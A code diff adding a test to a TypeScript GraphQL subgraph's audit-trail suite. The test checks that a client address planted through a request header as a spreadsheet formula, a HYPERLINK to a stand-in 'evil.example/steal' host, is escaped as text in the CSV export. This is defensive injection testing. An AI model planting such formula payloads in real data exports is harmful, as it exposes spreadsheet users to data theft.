@@ -1,6 +1,18 @@
 import type { PlatformEvent } from '@czn/events';
-import { PERSONAL_DATA_EVENT, type PersonalDataAuditRecord } from '@czn/kernel';
-import { someone, startSubgraphHarness, type SubgraphHarness } from '@czn/testing';
+import {
+  CLIENT_ADDRESS_HEADER,
+  GATEWAY,
+  internalClient,
+  PERSONAL_DATA_EVENT,
+  type PersonalDataAuditRecord,
+} from '@czn/kernel';
+import {
+  graphqlRequest,
+  someone,
+  startSubgraphHarness,
+  TEST_INTERNAL_SECRET,
+  type SubgraphHarness,
+} from '@czn/testing';
 import { randomUUID } from 'node:crypto';
 import { Pool } from 'pg';
 import { identity } from '../../subgraph';
@@ -176,6 +188,28 @@ test('the trail exports as CSV for Russian spreadsheets', async () => {
     registrar.id,
     'Регистратор ЦЗН',
   ]);
+});
+
+test('a planted client address comes out of the CSV as text, not a formula', async () => {
+  const person = await newCitizen();
+  const planted = '=HYPERLINK("http://evil.example/steal")';
+  const gateway = internalClient({ caller: GATEWAY, secret: TEST_INTERNAL_SECRET });
+  await graphqlRequest(
+    harness.running.url,
+    ENTITIES,
+    { r: [{ __typename: 'User', id: person.id }] },
+    {
+      ...(await gateway.headers('identity', registrar.viewer)),
+      [CLIENT_ADDRESS_HEADER]: planted,
+    },
+  );
+  const { data } = await harness.request(
+    admin,
+    'query($subject: PersonalDataSubjectInput!) { personalDataAuditCsv(subject: $subject) }',
+    { subject: { personId: person.id } },
+  );
+  const [, row] = (data!['personalDataAuditCsv'] as string).split('\r\n');
+  expect(row!.endsWith(`;"'=HYPERLINK(""http://evil.example/steal"")"`)).toBe(true);
 });
 
 test('audit events of another subgraph are copied once, however often they come', async () => {
